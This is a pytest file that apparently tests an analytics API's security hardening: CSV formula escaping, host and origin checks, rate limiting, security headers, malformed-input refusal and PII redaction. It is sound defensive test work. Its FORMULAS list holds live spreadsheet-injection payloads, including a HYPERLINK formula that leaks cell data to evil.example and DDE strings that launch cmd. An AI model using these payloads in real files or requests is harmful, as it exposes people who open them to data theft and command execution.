"""Issue 16 in process (TestClient over the real app and a real DuckDB file): CSV formula injection,
allowed hosts and origins, the rate limiter's memory bound, security headers, input that must be
refused (impossible offsets, non-string JSON, duplicate keys, padded ids), error bodies that name the
contract's fields, and PII-shaped dimension values stored as a redaction marker."""

from __future__ import annotations

import csv
import io
import json
from collections.abc import Iterator
from pathlib import Path
from typing import Any

import pytest
from fastapi.testclient import TestClient

import leadstats
from leadstats.api import create_app
from leadstats.api.auth import RateLimiter, client_key
from leadstats.errors import RateLimited
from leadstats.insights.export import export_for_ai
from leadstats.model.csv_safety import safe_cell
from leadstats.service import LeadStats
from leadstats.settings import Settings

INGEST, READ = "sec-ingest", "sec-read"
ING = {"Authorization": f"Bearer {INGEST}"}
R = {"Authorization": f"Bearer {READ}"}
WHEN = "2026-04-10T10:00:00Z"


def settings(**over: Any) -> Settings:
    base: dict[str, Any] = {"ingest_tokens": (INGEST,), "read_tokens": (READ,), "rate_limit_per_minute": 0}
    return Settings(**{**base, **over})


def ev(i: int | str, **f: Any) -> dict[str, Any]:
    return {"event_id": f"s{i}", "event_type": "primary", "occurred_at": WHEN, **f}


@pytest.fixture(scope="module")
def shared(tmp_path_factory: pytest.TempPathFactory) -> Iterator[tuple[TestClient, LeadStats]]:
    service = leadstats.connect(str(tmp_path_factory.mktemp("sec") / "sec.duckdb"))
    with TestClient(create_app(service, settings(k_anonymity=1))) as c:
        yield c, service
    service.close()


@pytest.fixture
def client(shared: tuple[TestClient, LeadStats]) -> TestClient:
    return shared[0]


def post_lines(client: TestClient, lines: list[str]) -> dict[str, Any]:
    resp = client.post(
        "/api/v1/events",
        content=("[" + ",".join(lines) + "]").encode(),
        headers={**ING, "Content-Type": "application/json"},
    )
    assert resp.status_code == 200, resp.text
    return resp.json()  # type: ignore[no-any-return]


def report_rows(client: TestClient, project: str, by: str) -> list[dict[str, Any]]:
    resp = client.get(
        "/api/v1/report",
        params={"from": "2026-04-10", "to": "2026-04-11", "tz": "UTC", "by": by, "filter": f"project={project}"},
        headers=R,
    )
    assert resp.status_code == 200, resp.text
    return resp.json()["rows"]  # type: ignore[no-any-return]


# -- 16.6 CSV formula injection ----------------------------------------------------------------------
FORMULAS = [
    '=HYPERLINK("https://evil.example?"&A1,"x")',
    "+cmd|' /C calc'!A0",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "\tTAB",
    "\rCR",
]


def test_csv_cells_cannot_be_formulas(client: TestClient, tmp_path: Path, shared: tuple[TestClient, LeadStats]) -> None:
    events = [ev(f"csv-{i}", project="t-csv", utm_campaign=f) for i, f in enumerate(FORMULAS)]
    events.append(ev("csv-plain", project="t-csv", utm_campaign="brand"))
    assert client.post("/api/v1/events", json=events, headers=ING).json()["accepted"] == 7
    resp = client.get(
        "/api/v1/report",
        params={
            "from": "2026-04-10",
            "to": "2026-04-11",
            "tz": "UTC",
            "by": "utm_campaign",
            "filter": "project=t-csv",
            "format": "csv",
        },
        headers=R,
    )
    assert resp.status_code == 200
    rows = list(csv.DictReader(io.StringIO(resp.text)))
    campaigns = {r["utm_campaign"] for r in rows}
    assert campaigns == {"'" + f.replace("\r", "\n") for f in FORMULAS} | {"brand"}
    assert all(r["received"] == "1" for r in rows)  # numbers stay numbers
    # the AI export pack
    pack = tmp_path / "pack"
    export_for_ai(shared[1], pack, "2026-04-10", "2026-04-11", tz="UTC", k=1)
    text = (pack / "by_utm_campaign.csv").read_text(encoding="utf-8")
    cells = {r["utm_campaign"] for r in csv.DictReader(io.StringIO(text))}
    assert "'" + FORMULAS[0] in cells and FORMULAS[0] not in cells
    for first in {r: 0 for r in text.splitlines()[1:]}:
        assert not first.startswith(("=", "+", "-", "@", "\t", "\r"))


def test_safe_cell_keeps_numbers() -> None:
    assert [safe_cell(v) for v in (-12, -0.5, 0, 3.25)] == [-12, -0.5, 0, 3.25]
    assert safe_cell("-12") == "'-12"  # text stays text (a dimension value is never a number)
    assert safe_cell(None) == "" and safe_cell(False) == "false"


# -- 16.7 hosts and origins --------------------------------------------------------------------------
def test_allowed_hosts_and_origins(tmp_path: Path) -> None:
    ls = leadstats.connect(str(tmp_path / "hosts.duckdb"))
    app = create_app(ls, settings(allowed_hosts=("stats.example.com", "*.leads.example")))
    with TestClient(app, base_url="http://stats.example.com") as c:
        assert c.get("/healthz").status_code == 200
        assert c.get("/healthz", headers={"Host": "a.leads.example"}).status_code == 200
        bad = c.get("/api/v1/schema", headers={**R, "Host": "evil.example"})
        assert bad.status_code == 400 and bad.json()["error"]["code"] == "invalid_host"
        assert c.get("/healthz", headers={"Host": "testserver"}).status_code == 400
        good_origin = c.post("/api/v1/events", json=[ev("o1")], headers={**ING, "Origin": "https://a.leads.example"})
        assert good_origin.status_code == 200
        same = c.post("/api/v1/events", json=[ev("o2")], headers={**ING, "Origin": "http://stats.example.com"})
        assert same.status_code == 200
        cross = c.post("/api/v1/events", json=[ev("o3")], headers={**ING, "Origin": "https://evil.example"})
        assert cross.status_code == 403 and cross.json()["error"] == {
            "code": "forbidden",
            "message": "cross-site request from Origin 'https://evil.example' refused",
            "field": "origin",
        }
        # reads from another origin are not writes; without CORS the browser keeps the answer from the page
        assert c.get("/healthz", headers={"Origin": "https://evil.example"}).status_code == 200
        form = c.post("/api/v1/events", content=b"[]", headers={**ING, "Content-Type": "text/plain;charset=UTF-8"})
        assert form.status_code == 415 and form.json()["error"]["field"] == "content-type"
    assert ls.store.count() == 2
    ls.close()


# -- 16.8 rate limiter memory --------------------------------------------------------------------------
def test_rotating_keys_does_not_reset_other_buckets() -> None:
    limiter = RateLimiter(per_minute=3, max_keys=100)
    for _ in range(3):
        limiter.hit("victim")
    with pytest.raises(RateLimited):
        limiter.hit("victim")
    for i in range(1_000):  # an attacker rotating through many keys
        limiter.hit(f"rotating-{i}")
        if i % 20 == 0:
            with pytest.raises(RateLimited):
                limiter.hit("victim")  # still limited: only the least recently used buckets are forgotten
    assert len(limiter) <= 100


def test_ipv6_clients_share_their_64() -> None:
    assert client_key("2001:db8:1:2::1") == client_key("2001:db8:1:2:ffff::9") != client_key("2001:db8:1:3::1")
    assert client_key("::ffff:10.0.0.1") == client_key("10.0.0.1")


# -- 16.9 headers ------------------------------------------------------------------------------------
def test_security_headers_on_every_kind_of_response(client: TestClient) -> None:
    for resp in (
        client.get("/"),
        client.get("/api/v1/schema", headers=R),
        client.get("/nope"),
        client.get("/api/v1/schema"),
    ):
        assert resp.headers["x-content-type-options"] == "nosniff"
        assert resp.headers["x-frame-options"] == "DENY"
        assert resp.headers["referrer-policy"] == "no-referrer"
        assert "frame-ancestors 'none'" in resp.headers["content-security-policy"]
    index = client.get("/").text
    assert "<script>" not in index and " on" not in index.split("<body", 1)[1].split(">", 1)[0]


# -- 16.10 .. 16.13 refusals ---------------------------------------------------------------------------
def rejected(doc: dict[str, Any]) -> dict[int, tuple[str, str]]:
    return {r["index"]: (r["field"], r["error"]) for r in doc["rejected"]}


def test_impossible_offsets_are_refused(client: TestClient) -> None:
    lines = [
        json.dumps(ev(f"off-{i}", project="t-off", occurred_at=f"2026-04-10T10:00:00{off}"))
        for i, off in enumerate(["+24:00", "+99:99", "-18:30", "+05:61", "+14:00", "-12:00", "+05:45"])
    ]
    doc = post_lines(client, lines)
    assert doc["accepted"] == 3
    bad = rejected(doc)
    assert sorted(bad) == [0, 1, 2, 3] and all(f == "occurred_at" for f, _ in bad.values())
    assert "impossible UTC offset" in bad[0][1]
    for bound in ("2026-04-10T00:00:00+24:00", "2026-04-10T00:00:00+19:00", "2026-04-10T00:00:00+99:99"):
        resp = client.get("/api/v1/report", params={"from": bound, "to": "2026-04-12"}, headers=R)
        assert resp.status_code == 400 and resp.json()["error"]["field"] == "from", resp.text


def test_non_string_json_in_string_fields_is_refused(client: TestClient, shared: tuple[TestClient, LeadStats]) -> None:
    deep = '{"a":' * 50_000 + "1" + "}" * 50_000
    lines = [
        f'{{"event_id": {{"a": 1}}, "event_type": "primary", "occurred_at": "{WHEN}"}}',
        json.dumps(ev("nstr-1", project=["a"])),
        json.dumps({**ev("x"), "event_id": 7}),
        json.dumps(ev("nstr-3", project=False)),
        json.dumps(ev("nstr-4", utm_term=12)),
        f'{{"event_id": "nstr-5", "event_type": "primary", "occurred_at": "{WHEN}", "project": {deep}}}',
        json.dumps({**ev("nstr-6"), "event_type": ["primary"]}),
        json.dumps(ev("nstr-7", project="t-nstr", vpn=True, suspicion_score=12)),  # booleans and numbers fit
    ]
    doc = post_lines(client, lines)
    assert doc["accepted"] == 1
    bad = rejected(doc)
    assert bad == {
        0: ("event_id", "must be a string, got an object"),
        1: ("project", "must be a string, got an array"),
        2: ("event_id", "must be a string, got a number"),
        3: ("project", "must be a string, got a boolean"),
        4: ("utm_term", "must be a string, got a number"),
        5: ("project", "must be a string, got an object"),
        6: ("event_type", "must be a string, got an array"),
    }
    assert doc["rejected"][0]["event_id"] is None  # the object is not echoed back as an id
    assert len(json.dumps(doc)) < 2_000


def test_duplicate_keys_refuse_the_record(client: TestClient) -> None:
    dup = f'{{"event_id": "dup-1", "event_type": "primary", "occurred_at": "{WHEN}", "project": "a", "project": "b"}}'
    dup_id = f'{{"event_id": "dup-2", "event_id": "dup-3", "event_type": "primary", "occurred_at": "{WHEN}"}}'
    extra = f'{{"event_id": "dup-4", "event_type": "primary", "occurred_at": "{WHEN}", "x": 1, "y": 2}}'
    doc = post_lines(client, [dup, dup_id, extra])
    assert doc["accepted"] == 1
    assert rejected(doc) == {
        0: ("record", 'has the key "project" more than once'),
        1: ("record", 'has the key "event_id" more than once'),
    }
    nd = client.post(
        "/api/v1/events",
        content=(dup.replace("dup-1", "dup-5") + "\n").encode(),
        headers={**ING, "Content-Type": "application/x-ndjson"},
    )
    assert nd.json()["accepted"] == 0 and nd.json()["rejected"][0]["field"] == "record"


def test_padded_event_ids_are_refused_not_trimmed(client: TestClient) -> None:
    lines = [json.dumps(ev("x", project="t-pad") | {"event_id": e}) for e in ("pad1", " pad1 ", "pad1\t", "\u00a0pad1")]
    doc = post_lines(client, lines)
    assert doc["accepted"] == 1 and doc["duplicates"] == 0
    assert {i: f for i, (f, _) in rejected(doc).items()} == {1: "event_id", 2: "event_id", 3: "event_id"}
    assert "whitespace" in doc["rejected"][0]["error"]


# -- 16.16 error bodies ---------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("body", "status", "code", "field"),
    [
        (b'\xff{"date_range": ["2026-01-01", "2026-01-02"]}', 400, "invalid_input", "body"),
        (b'{"date_range":' + b"[" * 50_000 + b"]" * 50_000 + b"}", 400, "invalid_input", "body"),
        (b'{"date_range": ["2026-01-01", "2026-01-02"], "dimensions": 5}', 422, "invalid_parameter", "dimensions"),
        (b'{"date_range": [1, 2]}', 422, "invalid_parameter", "date_range"),
    ],
)
def test_query_error_bodies(client: TestClient, body: bytes, status: int, code: str, field: str) -> None:
    resp = client.post("/api/v1/query", content=body, headers={**R, "Content-Type": "application/json"})
    assert resp.status_code == status, resp.text
    error = resp.json()["error"]
    assert (error["code"], error["field"]) == (code, field)
    assert "There was an error parsing the body" not in error["message"] and "list[str]" not in error["message"]


# -- 16.17 PII in dimensions -----------------------------------------------------------------------------
def test_pii_shaped_values_are_redacted(client: TestClient, shared: tuple[TestClient, LeadStats]) -> None:
    events = [
        ev("pii-1", project="t-pii", utm_term="john.doe@example.com"),
        ev("pii-2", project="t-pii", cta="+91 98765 43210"),
        ev("pii-3", project="t-pii", referer="https://site.in/thanks?email=a%40b.in&x=1"),
        ev("pii-4", project="t-pii", city="9876543210", region="(022) 2345 6789"),
        ev("pii-5", project="t-pii", referer="https://site.in/?mobile=98765-43210"),
        ev(
            "pii-6",
            project="t-pii",
            utm_campaign="12345678901",
            utm_content="2026-03-07",
            utm_term="3bhk pune",
            phone_country_code="+91",
            referer="https://site.in/p/42?gclid=abc123",
        ),
    ]
    doc = client.post("/api/v1/events", json=events, headers=ING).json()
    assert doc["accepted"] == 6 and doc["redacted"] == 5
    rows = {r["utm_term"]: r["received"] for r in report_rows(client, "t-pii", "utm_term")}
    assert rows == {"[redacted]": 1, None: 4, "3bhk pune": 1}
    kept = report_rows(client, "t-pii", "utm_campaign,utm_content,phone_country_code")
    assert {(r["utm_campaign"], r["utm_content"], r["phone_country_code"]) for r in kept} >= {
        ("12345678901", "2026-03-07", "+91")
    }
    referers = {r["referer"] for r in report_rows(client, "t-pii", "referer")}
    assert referers == {None, "[redacted]", "https://site.in/p/42?gclid=abc123"}
    assert {r["city"] for r in report_rows(client, "t-pii", "city,region")} == {None, "[redacted]"}
    metrics = client.get("/metrics", headers=R).text
    for field in ("utm_term", "cta", "referer", "city", "region"):
        line = next(
            x
            for x in metrics.splitlines()
            if x.startswith(f'leadstats_ingest_redacted_values_total{{field="{field}"}}')
        )
        assert float(line.split()[-1]) >= 1
    # the same rule on the file / Python path
    result = shared[1].ingest([ev("pii-7", project="t-pii2", source="someone@example.org")])
    assert result.accepted == 1 and result.redacted == 1
    assert report_rows(client, "t-pii2", "source") == [pytest.approx(report_rows(client, "t-pii2", "source")[0])]
    assert report_rows(client, "t-pii2", "source")[0]["source"] == "[redacted]"
